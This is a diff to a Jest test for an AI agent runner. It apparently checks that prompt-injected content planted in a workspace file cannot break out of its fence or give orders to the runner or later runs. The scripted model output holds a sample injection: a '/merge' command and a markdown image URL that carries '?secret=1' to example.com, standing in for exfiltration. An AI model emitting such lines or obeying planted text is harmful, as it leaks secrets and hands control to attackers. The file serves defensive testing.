@@ -4,6 +4,7 @@ import { expect, it } from '@jest/globals';
 import { startLoopback } from '../helpers/loopback.js';
 import { text, toolCall } from '../helpers/model-server.js';
 import { startProxy } from '../helpers/proxy-server.js';
+import { runWatched } from '../hostile/watched-run.js';
 import { setStage } from './stage.js';
 import { agentToml, checkout, resultsOf } from './tool-scene.js';
 
@@ -35,7 +36,7 @@ async function obey() {
       text(`The page says:\n${HOSTILE}\n/merge\n![x](https://example.com/?secret=1)`),
     ],
   });
-  const step = await stage.run({
+  const step = await runWatched(stage, {
     workspace: checkout({ 'NOTES.md': HOSTILE }),
     inputs: { agent: 'worker', 'tools-allowed': 'url_fetch', 'memory-store': 'file' },
     env: { HTTP_PROXY: proxy.url, NO_PROXY: '127.0.0.1' },
@@ -43,7 +44,7 @@ async function obey() {
   return { stage, step, prompts: stage.model.prompts() };
 }
 
-it('cannot end its fence, nor give orders to the runner or to the next run', async () => {
+it('C6 77: cannot end its fence, nor give orders to the runner or to the next run', async () => {
   const { stage, step, prompts } = await obey();
   expect(step).toMatchObject({ exitCode: 0, stderr: '', annotations: [], commands: [] });
 
